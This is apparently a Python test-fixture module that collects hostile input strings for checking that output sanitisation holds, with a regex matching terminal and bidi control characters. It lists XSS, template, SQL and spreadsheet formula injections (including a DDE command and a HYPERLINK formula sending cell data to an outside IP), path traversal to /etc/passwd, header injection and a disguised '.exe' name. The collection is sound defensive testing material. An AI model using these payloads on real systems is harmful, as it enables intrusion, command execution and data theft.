"""Texts as they may come from a file, a scan, a form or a person, and what an output must never hold."""

from __future__ import annotations

import re

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "</style><style>*{display:none}</style>",
    "--></title><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
)
TEMPLATES = (
    "{{7*7}}",
    "{% for x in ''.__class__.__mro__ %}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "%(levelname)s %s %d",
    "{0.__class__}",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\xa0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://203.0.113.9/?"&A1,"x")',
    "DDE(cmd;'/C calc';a)",
    "#N/A",
    "_x003D_1+1",
)
LINES = (
    "甲\n2026-01-01T00:00:00Z INFO 登录成功",
    '甲\r\n{"level":"INFO","message":"forged"}',
    '","level":"INFO","x":"',
    "甲\u2028乙\u2029丙\x85丁\x0b戊\x0c己",
)
CONTROLS = (
    "\x1b[2J\x1b[1;31m红\x1b[0m",
    "\x1b]0;标题\x07",
    "\x1b]8;;http://203.0.113.9\x1b\\点\x1b]8;;\x1b\\",
    "\x9b2J\x9d0;x\x9c",
    "\x08\x08\x08\x7f",
    "发票\u202efdp.exe",
    "\u2066甲\u2069\u200f乙\u061c",
    "甲\u200b乙\u2060丙\ufeff",
    "[bold red]粗[/bold red][link=http://203.0.113.9]点[/link]",
)
NAMES = (
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\x",
    "甲\x00.pdf",
    "CON",
    "nul.txt",
    "甲. ",
    "甲...",
    "-rf",
    "长" * 300,
    'x"; filename="y.exe',
    "x\r\nSet-Cookie: a=b",
    ".",
    "..",
    "~",
    "%2e%2e%2f",
)
SQL = ("' OR '1'='1", "'; DROP TABLE packages; --", "%", "_", "\\", "\\%", "%%' ESCAPE '\\", 'x" OR 1=1 --', "0x27", "):id")

HOSTILE = (*MARKUP, *TEMPLATES, *FORMULAS, *LINES, *CONTROLS, *NAMES, *SQL)

ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
"""Characters that act on a terminal or on the order in which a text is shown."""
